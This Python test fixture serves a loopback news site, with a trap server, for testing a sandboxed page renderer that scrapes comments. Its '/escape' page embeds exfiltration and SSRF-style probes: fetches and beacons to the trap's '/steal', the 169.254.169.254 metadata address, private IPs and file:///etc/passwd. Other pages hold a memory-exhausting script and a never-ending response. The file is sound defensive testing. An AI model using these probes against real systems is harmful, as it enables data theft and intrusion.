"""A loopback news site for the rendered fetch's tests (issue 18), and a trap server that must hear nothing.

:class:`Site` serves pages whose comments arrive by script, from an iframe, after "load more" clicks,
from a JSON endpoint, and pages that try to escape the address rules (their targets: the trap server
on another loopback port, 169.254.169.254, private addresses), download, never finish, or allocate
memory without end. :class:`Trap` records every connection it accepts.
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
import time
from collections.abc import Callable
from typing import Any

ARTICLE = "<h1>Council votes on the new river bridge</h1>" + "".join(
    f"<p>The council met on Monday evening to discuss part {i} of the bridge plan, which residents "
    "have argued about for years in crowded public meetings across the town.</p>"
    for i in range(6)
)
SCRIPT_COMMENTS = [
    {"id": "1", "author": "ann_river", "text": "The bridge is a waste of our money, plain and simple."},
    {"id": "2", "author": "bob_m", "text": "Nonsense, the old one is falling apart.", "parent_id": "1"},
    {"id": "3", "author": "carla", "text": "Will the bus route change while they build it?"},
]
_RENDER = """
<script>
function addComments(list, box) {
  for (const c of list) {
    const d = document.createElement('div'); d.className = 'comment';
    const a = document.createElement('span'); a.className = 'comment-author'; a.textContent = c.author;
    const t = document.createElement('p'); t.className = 'comment-text'; t.textContent = c.text;
    d.appendChild(a); d.appendChild(t); box.appendChild(d);
  }
}
</script>
"""


def _page(body: str, *, head: str = "") -> bytes:
    return (
        f"<!DOCTYPE html><html><head><title>Bridge vote</title>{head}</head><body>"
        f"<article>{ARTICLE}</article>{body}</body></html>"
    ).encode()


class Trap:
    """A loopback server that must receive nothing: it counts every connection, whatever comes on it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self._socket = socket.socket()
        self._socket.bind(("127.0.0.1", 0))
        self._socket.listen(16)
        self.port: int = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, peer = self._socket.accept()
            except OSError:
                return
            self.hits.append(f"connection from {peer}")
            conn.close()

    def close(self) -> None:
        self._socket.close()


class Site:
    """The loopback news site: ``url(path)`` of each page; ``requests`` lists the paths asked for."""

    def __init__(self, trap_port: int) -> None:
        self.trap_port = trap_port
        self.requests: list[str] = []
        #: (time.monotonic(), path) of every request, for the politeness tests
        self.times: list[tuple[float, str]] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                site.requests.append(self.path)
                site.times.append((time.monotonic(), self.path))
                route = site.routes().get(self.path.split("?")[0])
                if route is None:
                    self._send(404, b"not here", "text/plain")
                    return
                route(self)

            def _send(
                self, status: int, body: bytes, kind: str, headers: dict[str, str] | None = None
            ) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port: int = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    # --- pages ------------------------------------------------------------------------------

    def routes(self) -> dict[str, Callable[[Any], None]]:
        trap = f"127.0.0.1:{self.trap_port}"
        html = "text/html; charset=utf-8"

        def page(body: str, **kw: Any) -> Callable[[Any], None]:
            return lambda h: h._send(200, _page(body, **kw), html)

        def json_answer(value: Any, delay: float = 0.0) -> Callable[[Any], None]:
            def send(h: Any) -> None:
                time.sleep(delay)
                h._send(200, json.dumps(value).encode(), "application/json")

            return send

        def more(h: Any) -> None:
            number = int(h.path.partition("page=")[2] or "1")
            batch = [
                {
                    "author": f"reader{number}{i}",
                    "text": f"Comment {i} of page {number}: the bridge plan needs a vote.",
                }
                for i in range(2)
            ]
            h._send(200, json.dumps({"comments": batch, "last": number >= 3}).encode(), "application/json")

        def endless(h: Any) -> None:
            number = int(h.path.partition("page=")[2] or "1")
            batch = [{"author": f"bot{number}", "text": f"Endless comment number {number} about the bridge."}]
            h._send(200, json.dumps({"comments": batch, "last": False}).encode(), "application/json")

        def never(h: Any) -> None:
            # The page and its comments arrive, then the response never ends.
            h.send_response(200)
            h.send_header("Content-Type", html)
            h.end_headers()
            h.wfile.write(
                b"<!DOCTYPE html><html><head><title>Bridge vote</title></head><body><article>"
                + ARTICLE.encode()
                + b'</article><div class="comments"><div class="comment"><span class="comment-author">slow_sam</span>'
                b'<p class="comment-text">This page never stops loading, but my comment is here.</p></div></div>'
            )
            h.wfile.flush()
            for _ in range(600):
                time.sleep(0.1)
                try:
                    h.wfile.write(b" ")
                    h.wfile.flush()
                except OSError:
                    return

        def download(h: Any) -> None:
            h._send(
                200,
                b"\x00" * 10_000,
                "application/octet-stream",
                {"Content-Disposition": 'attachment; filename="x.bin"'},
            )

        def redirect(target: str) -> Callable[[Any], None]:
            return lambda h: h._send(302, b"", "text/plain", {"Location": target})

        load_more_script = """
<div id="comments" class="comments"></div>
<button id="more" onclick="loadMore()">Load more comments</button>
<script>
let next = 1;
function loadMore() {
  fetch('%s?page=' + next++).then(r => r.json()).then(data => {
    addComments(data.comments, document.getElementById('comments'));
    if (data.last) document.getElementById('more').remove();
  });
}
</script>"""
        escape = f"""
<div id="comments" class="comments"></div>
<img src="http://{trap}/pixel.png"><link rel="stylesheet" href="http://{trap}/style.css">
<iframe src="http://{trap}/frame" width="10" height="10"></iframe>
<iframe src="file:///etc/passwd" width="10" height="10"></iframe>
<span id="geo" hidden>asked</span>
<a id="dl" href="/download" download>get</a>
<script src="http://{trap}/script.js"></script>
<script>
fetch('http://{trap}/steal').catch(() => {{}});
fetch('http://169.254.169.254/latest/meta-data/').catch(() => {{}});
fetch('http://10.0.0.1/admin').catch(() => {{}});
fetch('http://[::1]:{self.trap_port}/v6').catch(() => {{}});
try {{ new WebSocket('ws://{trap}/socket'); }} catch (e) {{}}
try {{ navigator.sendBeacon('http://{trap}/beacon', 'x'); }} catch (e) {{}}
try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{trap}'}}]}}); }} catch (e) {{}}
const x = new XMLHttpRequest(); x.open('GET', 'http://{trap}/xhr'); x.send();
try {{ window.open('http://{trap}/popup'); }} catch (e) {{}}
navigator.geolocation.getCurrentPosition(
  () => {{ document.getElementById('geo').textContent = 'granted'; }},
  (error) => {{ document.getElementById('geo').textContent = 'refused ' + error.code; }});
fetch('/redirect-to-trap').catch(() => {{}});
document.getElementById('dl').click();
fetch('/api/comments').then(r => r.json()).then(list => addComments(list, document.getElementById('comments')));
</script>"""
        return {
            "/robots.txt": lambda h: h._send(200, b"User-agent: slant\nDisallow: /private\n", "text/plain"),
            "/script": page(
                '<div id="comments" class="comments"></div><script>setTimeout(() => fetch("/api/comments")'
                '.then(r => r.json()).then(list => addComments(list, document.getElementById("comments"))), 200);'
                "</script>",
                head=_RENDER,
            ),
            "/api/comments": json_answer(SCRIPT_COMMENTS, delay=0.3),
            "/iframe": page(
                '<h2>Comments</h2><iframe id="comment-frame" src="/frame" width="600" height="400"></iframe>'
            ),
            "/frame": lambda h: h._send(
                200,
                (
                    "<!DOCTYPE html><html><head>"
                    + _RENDER
                    + '</head><body><div id="post-list" class="comments"></div>'
                    '<script>fetch("/api/comments").then(r => r.json())'
                    '.then(list => addComments(list, document.getElementById("post-list")));</script></body></html>'
                ).encode(),
                html,
            ),
            "/more": page(load_more_script % "/api/more", head=_RENDER),
            "/api/more": more,
            "/endless": page(load_more_script % "/api/endless", head=_RENDER),
            "/api/endless": endless,
            "/api-page": page('<div id="comments" data-comments-url="/api/comments"></div>'),
            "/state-page": page(
                '<script>window.__INITIAL_STATE__ = {"story": {"id": 9}, "discussion": {"comments": '
                + json.dumps(SCRIPT_COMMENTS)
                + "}};</script>"
            ),
            "/escape": page(escape, head=_RENDER),
            "/redirect-to-trap": redirect(f"http://{trap}/redirected"),
            "/redirect-private": redirect("http://10.0.0.1/internal"),
            "/redirect-metadata": redirect("http://169.254.169.254/latest/meta-data/"),
            "/download": download,
            "/never": never,
            "/memory": page(
                '<div class="comments"><div class="comment"><span class="comment-author">greedy</span>'
                '<p class="comment-text">A comment on a page that eats memory.</p></div></div>'
                "<script>const hoard = []; setInterval(() => { for (let i = 0; i < 8; i++) {"
                " const b = new Uint8Array(16 << 20); b.fill(1); hoard.push(b); } }, 20);</script>"
            ),
            "/heavy": page(
                '<div class="comments"><div class="comment"><span class="comment-author">ed</span>'
                '<p class="comment-text">A comment on a page with a huge script.</p></div></div>'
                '<script src="/huge.js"></script>'
            ),
            "/huge.js": lambda h: h._send(200, b"//" + b"x" * 3_000_000, "text/javascript"),
        }
